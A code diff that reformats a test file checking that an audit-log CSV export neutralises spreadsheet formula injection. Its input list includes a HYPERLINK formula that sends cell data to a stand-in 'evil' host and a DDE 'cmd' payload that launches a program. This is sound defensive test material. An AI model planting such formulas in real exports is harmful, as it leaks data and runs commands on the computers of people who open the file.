@@ -14,8 +14,23 @@ beforeAll(async () => {
 afterAll(() => world.close());
 
 const formulas = [
-  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠A'],
-  ...['=HYPERLINK("http://evil/?"&A1,"here")', "=cmd|' /C calc'!A0", '"=1"', 'a","=1', 'x\r\n=1,=1', ';=1'],
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠A',
+  '=HYPERLINK("http://evil/?"&A1,"here")',
+  "=cmd|' /C calc'!A0",
+  '"=1"',
+  'a","=1',
+  'x\r\n=1,=1',
+  ';=1',
 ];
 const runs = /^[=+\-@\t\r\n＝＋－＠]/;
 const isDecimal = /^-?\d+(\.\d+)?$/;
@@ -117,7 +132,9 @@ test('the audit log runs nothing, whatever operators and strangers write', async
     await world.ask(trader, 'officeNameExplain', { kind: 'competition', name, means: 'test' });
   }
   const { payload } = await world.server.app.inject({
-    ...{ method: 'GET', url: auditExportPath, headers: { 'ba-office-token': auditor.token } },
+    method: 'GET',
+    url: auditExportPath,
+    headers: { 'ba-office-token': auditor.token },
   });
   // The name is the subject of its line.
   expectHarmless(payload, formulas);
